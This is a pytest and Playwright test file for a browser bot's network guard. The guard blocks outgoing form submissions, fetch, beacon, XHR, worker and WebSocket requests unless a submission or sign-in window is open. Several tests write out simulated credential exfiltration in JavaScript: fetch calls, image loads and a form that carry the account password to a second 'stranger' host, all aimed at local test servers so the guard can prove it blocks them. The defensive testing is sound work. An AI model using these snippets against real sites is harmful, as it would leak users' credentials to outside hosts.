"""The network guard, with a real browser and a server that counts what reaches it."""

import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from flows.carrying import Words
from kors_bot.browser import BrowserSession, open_browser
from kors_bot.browser.guard import Guard, NotPermitted
from kors_bot.settings import Settings
from tests.browser.odd_server import OddServer, odd_server

SECRET = "hunter2+secret&more"

XHR = """
new Promise(done => {
    const request = new XMLHttpRequest();
    request.onloadend = () => done(1);
    request.open('POST', '/taken');
    request.send('x');
})
"""
WORKER = """
new Promise(done => {
    const send = `fetch('${location.origin}/taken', {method: 'POST'}).catch(() => 0).then(() => postMessage(1))`;
    const worker = new Worker(URL.createObjectURL(new Blob([send])));
    worker.onmessage = () => done(1);
})
"""


@pytest.fixture(scope="module")
def browser(playwright: object, tmp_path_factory: pytest.TempPathFactory) -> Iterator[BrowserSession]:
    with odd_server() as shop, odd_server() as stranger:
        settings = Settings(
            base_url=shop.url, email="a@b.example", password=SECRET, data_dir=tmp_path_factory.mktemp("data"), timeout=5
        )
        with open_browser(settings) as browser:
            SERVERS.update(shop=shop, stranger=stranger)
            yield browser


SERVERS: dict[str, OddServer] = {}


@pytest.fixture
def shop(browser: BrowserSession) -> OddServer:
    SERVERS["shop"].received.clear()
    SERVERS["shop"].pages.clear()
    return SERVERS["shop"]


@pytest.fixture
def stranger(browser: BrowserSession) -> OddServer:
    SERVERS["stranger"].received.clear()
    return SERVERS["stranger"]


@pytest.fixture
def page(browser: BrowserSession) -> Page:
    return browser.page()


@pytest.fixture
def guard(browser: BrowserSession) -> Guard:
    guard = browser.guard()
    guard.blocked.clear()
    return guard


def _form(action: str, *, extra: str = "") -> str:
    return (
        f"<form method=post action='{action}' {extra}><input name=password value='{SECRET}'>"
        "<button>Send</button></form>"
    )


@pytest.mark.parametrize(
    "script",
    [
        "fetch('/taken', {method: 'POST', body: 'x'}).catch(() => 0)",
        "fetch('/taken', {method: 'PUT'}).catch(() => 0)",
        "fetch('/taken', {method: 'DELETE'}).catch(() => 0)",
        "fetch('/taken', {method: 'POST', keepalive: true}).catch(() => 0)",
        "navigator.sendBeacon('/taken', 'x')",
        XHR,
        WORKER,
    ],
    ids=["fetch", "put", "delete", "keepalive", "beacon", "xhr", "worker"],
)
def test_no_script_sends_anything(shop: OddServer, page: Page, guard: Guard, script: str) -> None:
    page.goto(shop.url)
    page.evaluate(script)
    page.goto(f"{shop.url}/next")

    assert shop.sent("POST", "PUT", "DELETE") == []
    assert [(blocked.address, blocked.reason) for blocked in guard.blocked] == [
        (f"{shop.url}/taken", "nothing may be sent now")
    ]


@pytest.mark.parametrize("extra", ["", "target=_blank", "target=inner"], ids=["here", "new tab", "frame"])
def test_no_form_sends_anything(shop: OddServer, page: Page, guard: Guard, extra: str) -> None:
    shop.pages["/form"] = _form("/taken", extra=extra) + "<iframe name=inner></iframe>"
    page.goto(f"{shop.url}/form")
    page.get_by_role("button", name="Send").click()
    patience = time.monotonic() + 60
    while not guard.blocked and time.monotonic() < patience:  # a form that names a place is sent after the click
        page.wait_for_timeout(20)
    page.goto(f"{shop.url}/next")

    assert shop.sent("POST") == []
    assert [blocked.method for blocked in guard.blocked] == ["POST"]


def _graphql(document: str) -> str:
    return f"fetch('/graphql', {{method: 'POST', body: JSON.stringify({{query: '{document}'}})}}).catch(() => 0)"


@pytest.mark.parametrize("document", ["{ orders }", "query orders { orders { number } }"])
def test_a_graphql_query_is_a_read(shop: OddServer, page: Page, guard: Guard, document: str) -> None:
    page.goto(shop.url)
    page.evaluate(_graphql(document))
    with guard.permit_submission(), guard.allow("submission"):
        page.evaluate(_graphql(document))

    assert shop.sent("POST") == ["/graphql", "/graphql"]
    assert guard.blocked == []


@pytest.mark.parametrize("document", ["mutation { send }", "query A { a } mutation B { b }", "query A { a"])
def test_what_is_not_surely_a_graphql_query_is_sent_nowhere(
    shop: OddServer, page: Page, guard: Guard, document: str
) -> None:
    page.goto(shop.url)
    before = len(guard.blocked)
    page.evaluate(_graphql(document))

    assert shop.sent("POST") == []
    assert guard.held_back(before) == "POST /graphql"


def test_a_graphql_query_reaches_no_other_host(shop: OddServer, stranger: OddServer, page: Page, guard: Guard) -> None:
    page.goto(shop.url)
    page.evaluate(_graphql("{ a }").replace("'/graphql'", f"'{stranger.url}/graphql'"))

    assert stranger.sent("POST") == []
    assert guard.held_back(0) is None


def test_of_graphql_mutations_only_the_one_with_the_messages_words_is_sent(
    shop: OddServer, page: Page, guard: Guard
) -> None:
    words = Words(("Please cancel order 77",), (), 40)
    page.goto(shop.url)
    with guard.permit_submission(words), guard.allow("submission"):
        page.evaluate(_graphql("mutation { count }"))
        page.evaluate(_graphql('mutation { send(text: "Please cancel order 77") }'))

    assert shop.sent("POST") == ["/graphql"]
    assert [blocked.address for blocked in guard.blocked] == [f"{shop.url}/graphql"]


def test_a_ping_waits_for_no_answer_and_is_no_submission(shop: OddServer, page: Page, guard: Guard) -> None:
    failures: list[str | None] = []
    page.goto(shop.url)
    page.on("requestfailed", lambda request: failures.append(request.failure))
    with guard.permit_submission(), guard.allow("submission"):
        page.evaluate("navigator.sendBeacon('/seen', 'pressed')")
        page.evaluate("fetch('/submit', {method: 'POST', body: 'x'}).then(answer => answer.text())")

    assert shop.sent("POST") == ["/submit"]
    assert [str(failure).partition(".")[0] for failure in failures] == ["net::ERR_BLOCKED_BY_CLIENT"]


def test_a_blocked_form_stays_on_the_screen(shop: OddServer, page: Page, guard: Guard) -> None:
    shop.pages["/form"] = _form("/taken")
    page.goto(f"{shop.url}/form")
    page.get_by_role("button", name="Send").click()
    page.evaluate("fetch('/x', {method: 'POST'}).catch(() => 0)")

    assert [blocked.address for blocked in guard.blocked] == [f"{shop.url}/taken", f"{shop.url}/x"]
    expect(page.get_by_role("button", name="Send")).to_be_visible()


def test_no_websocket_is_opened(shop: OddServer, page: Page, guard: Guard) -> None:
    page.goto(shop.url)
    ended = page.evaluate(
        "() => new Promise(done => { const s = new WebSocket(location.origin.replace('http', 'ws') + '/socket');"
        " s.onclose = () => done('closed'); s.onerror = () => done('closed') })"
    )

    assert ended == "closed"
    assert shop.sent("GET") == ["/"]
    assert [blocked.method for blocked in guard.blocked] == ["WEBSOCKET"]


def test_an_open_window_lets_exactly_its_request_through(shop: OddServer, page: Page, guard: Guard) -> None:
    page.goto(shop.url)
    with guard.allow("sign_in"):
        page.evaluate("fetch('/login', {method: 'POST', body: 'x'}).then(answer => answer.text())")
    page.evaluate("fetch('/again', {method: 'POST', body: 'x'}).catch(() => 0)")

    assert shop.sent("POST") == ["/login"]
    assert [blocked.address for blocked in guard.blocked] == [f"{shop.url}/again"]


def test_even_then_nothing_is_sent_to_another_host(
    shop: OddServer, stranger: OddServer, page: Page, guard: Guard
) -> None:
    shop.pages["/form"] = _form(f"{stranger.url}/taken")
    page.goto(f"{shop.url}/form")
    with guard.allow("sign_in"):
        page.get_by_role("button", name="Send").click()
        page.evaluate(f"fetch('{stranger.url}/fetched', {{method: 'POST', mode: 'no-cors'}}).catch(() => 0)")
        page.goto(f"{shop.url}/next")

    assert stranger.received == []
    assert [blocked.reason for blocked in guard.blocked] == [
        "it would carry the password to another host",
        "it goes to another host than the shop's",
    ]


@pytest.mark.parametrize("spelt", ["hunter2+secret&more", "hunter2%2Bsecret%26more"])
def test_the_password_never_leaves_in_an_address(
    shop: OddServer, stranger: OddServer, page: Page, guard: Guard, spelt: str
) -> None:
    page.goto(shop.url)
    page.evaluate(f"fetch('{stranger.url}/x.png?p={spelt}', {{mode: 'no-cors'}}).catch(() => 0)")
    page.evaluate(f"fetch('{stranger.url}/x.png?p=nothing', {{mode: 'no-cors'}})")

    assert stranger.sent("GET") == ["/x.png?p=nothing"]
    assert [blocked.address for blocked in guard.blocked] == [f"{stranger.url}/x.png"]


def test_the_password_never_leaves_in_the_address_of_a_picture(
    shop: OddServer, stranger: OddServer, page: Page, guard: Guard
) -> None:
    page.goto(shop.url)
    for query in ("hunter2%2Bsecret%26more", "nothing"):
        page.evaluate(
            "address => new Promise(done => { const picture = new Image(); picture.src = address;"
            " picture.onload = picture.onerror = () => done(1) })",
            f"{stranger.url}/x.png?p={query}",
        )

    assert stranger.sent("GET") == ["/x.png?p=nothing"]
    assert [blocked.address for blocked in guard.blocked] == [f"{stranger.url}/x.png"]


def test_one_accounts_window_is_no_window_for_the_page_of_another(tmp_path: Path, shop: OddServer) -> None:
    shop.pages["/timer"] = "<script>setInterval(() => fetch('/taken', {method: 'POST'}).catch(() => 0), 20)</script>"
    person = {"email": "ben@example.com", "password": "x"}
    settings = Settings(base_url=shop.url, **person, accounts={"ann": person}, data_dir=tmp_path, timeout=5)
    with open_browser(settings) as browser:
        browser.page().goto(f"{shop.url}/timer")
        browser.page("ann").goto(shop.url)
        with browser.guard("ann").allow("sign_in"):
            browser.page("ann").evaluate("new Promise(done => setTimeout(done, 100))")
            browser.page("ann").evaluate("fetch('/login', {method: 'POST'}).then(answer => answer.text())")

    assert shop.sent("POST") == ["/login"]


def test_a_submission_needs_permission(shop: OddServer, page: Page, guard: Guard) -> None:
    page.goto(shop.url)
    with pytest.raises(NotPermitted), guard.allow("submission"):
        raise AssertionError("it must not come to this")

    with guard.permit_submission(), guard.allow("submission"):
        page.evaluate("fetch('/submit', {method: 'POST', body: 'x'}).then(answer => answer.text())")

    with pytest.raises(NotPermitted), guard.allow("submission"):
        raise AssertionError("it must not come to this")
    assert shop.sent("POST") == ["/submit"]


def test_a_request_from_before_the_window_does_not_slip_through_it(shop: OddServer, page: Page, guard: Guard) -> None:
    page.goto(shop.url)
    page.evaluate("() => { fetch('/pressed-before', {method: 'POST'}).catch(() => 0); return 1 }")
    with guard.permit_submission(), guard.allow("submission"):
        page.evaluate("fetch('/submit', {method: 'POST', body: 'x'}).then(answer => answer.text())")

    assert shop.sent("POST") == ["/submit"]
    assert [blocked.address for blocked in guard.blocked] == [f"{shop.url}/pressed-before"]


def test_what_reaches_the_gate_in_a_submissions_window_was_never_asked_for(guard: Guard, shop: OddServer) -> None:
    with guard.permit_submission(), guard.allow("submission"):
        assert guard.stops_at_gate("POST", f"{shop.url}/late", "")
        assert not guard.stops_at_gate("GET", f"{shop.url}/page", "")


def test_a_submission_that_the_shop_passes_on_to_itself_arrives_there_once(
    shop: OddServer, page: Page, guard: Guard
) -> None:
    shop.redirects["/submit"] = f"{shop.url}/submitted"
    page.goto(shop.url)
    with guard.permit_submission(), guard.allow("submission"):
        page.evaluate("fetch('/submit', {method: 'POST', body: 'x'}).then(answer => answer.text())")

    assert shop.sent("POST") == ["/submit", "/submitted"]


def test_permission_alone_opens_nothing(shop: OddServer, page: Page, guard: Guard) -> None:
    page.goto(shop.url)
    with guard.permit_submission():
        page.evaluate("fetch('/submit', {method: 'POST'}).catch(() => 0)")

    assert shop.sent("POST") == []


@pytest.mark.parametrize("purpose", ["sign_in", "submission"])
def test_a_permitted_post_that_the_shop_passes_on_goes_nowhere(
    shop: OddServer, stranger: OddServer, page: Page, guard: Guard, purpose: str
) -> None:
    shop.redirects["/login"] = f"{stranger.url}/elsewhere"
    page.goto(shop.url)
    with guard.permit_submission(), guard.allow(purpose):
        page.evaluate("fetch('/login', {method: 'POST', mode: 'no-cors'}).catch(() => 0)")

    assert shop.sent("POST") == ["/login"]
    assert stranger.received == []
    assert [blocked.address for blocked in guard.blocked] == [f"{stranger.url}/elsewhere"]


def test_reading_is_not_hindered(shop: OddServer, page: Page, guard: Guard) -> None:
    shop.pages["/page"] = "<script src=/a.js></script><h1 id=said>no</h1><script>fetch('/b').then(show)</script>"
    shop.pages["/a.js"] = "function show() { document.getElementById('said').textContent = 'yes' }"
    page.goto(f"{shop.url}/page")

    expect(page.get_by_role("heading")).to_have_text("yes")
    assert guard.blocked == []


def test_a_blocked_address_is_kept_without_its_query(tmp_path: Path, shop: OddServer, page: Page, guard: Guard) -> None:
    page.goto(shop.url)
    page.evaluate("fetch('/x?token=abc', {method: 'POST'}).catch(() => 0)")

    assert [blocked.address for blocked in guard.blocked] == [f"{shop.url}/x"]
